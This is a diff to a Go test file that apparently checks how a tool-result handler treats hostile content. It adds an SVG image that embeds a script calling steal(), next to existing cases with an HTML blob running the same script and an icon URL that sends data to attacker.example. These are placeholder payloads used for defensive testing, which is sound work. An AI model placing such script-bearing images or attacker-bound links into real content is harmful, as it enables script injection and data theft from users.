@@ -81,6 +81,10 @@ var attempts = []attempt{
 		text: fixed(`"content":[{"type":"resource","resource":{"uri":"ui://page","mimeType":"text/html","blob":"` + page + `"}}]`), through: holds(page),
 	},
 	{
+		name: "drawing", title: "a drawing that runs a script", members: true,
+		text: fixed(`"content":[{"type":"image","mimeType":"image/svg+xml","data":"` + drawing + `"}]`), through: holds(drawing),
+	},
+	{
 		name: "icon", title: "an icon that fetches", members: true,
 		text:    fixed(`"content":[{"type":"resource_link","uri":"file:///a.txt","name":"a","icons":[{"src":"https://attacker.example/p.png?d=data"}]}]`),
 		through: holds("https://attacker"),
@@ -110,6 +114,9 @@ var attempts = []attempt{
 
 // page is markup that runs, as a blob has it.
 var page = base64.StdEncoding.EncodeToString([]byte("<!DOCTYPE html><script>steal()</script>"))
+
+// drawing is a drawing in SVG that runs a script, as an image has it.
+var drawing = base64.StdEncoding.EncodeToString([]byte(`<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h9"/><script>steal()</script></svg>`))
 
 // key makes a UUID out of a seed, which is a key where its name says so.
 func key(seed string) string {
